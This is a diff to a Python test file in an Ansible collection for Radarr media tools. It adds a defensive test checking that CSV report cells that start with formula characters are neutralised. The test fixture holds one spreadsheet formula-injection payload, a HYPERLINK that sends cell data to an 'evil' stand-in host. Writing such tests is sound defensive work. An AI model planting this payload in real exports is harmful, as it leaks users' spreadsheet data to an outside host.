@@ -86,3 +86,23 @@ def test_reviewed_csv(tmp_path):
     bad.write_text("Instance,Id,Score\nradarr,one,80\n")
     with pytest.raises(TagPlanError, match="line 2"):
         normalise(read_csv(str(bad)), str(bad))
+
+
+def test_report_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path):
+    """Titles come from TMDb/TVDB: '=HYPERLINK(...)' must reach a spreadsheet as text; the reviewed-CSV round
+    trip still tags by instance and id."""
+    from ansible_collections.mediaops.servarr.plugins.module_utils.runs.library_run import csv_text
+    from ansible_collections.mediaops.servarr.plugins.module_utils.decisions.tag_plan import read_csv
+    item = {"title": '=HYPERLINK("http://evil/"&A1,"x")', "kind": "movie", "quality": "1080p", "size": 10 ** 9,
+            "score": 90, "reason": "+never watched", "last_watched": None, "rating": 4.0, "indexer_releases": None,
+            "instance": "radarr", "id": 7, "tmdb": 1, "tvdb": None, "imdb": "@tt1"}
+    text = csv_text([item])
+    path = tmp_path / "r.csv"
+    path.write_text(text)
+    import csv
+    rows = list(csv.reader(text.splitlines()))
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in rows[1])
+    assert rows[1][0].startswith("'=HYPERLINK")
+    back = read_csv(str(path))
+    assert back[0]["instance"] == "radarr" and back[0]["id"] == "7"
+    assert back[0]["title"] == item["title"]
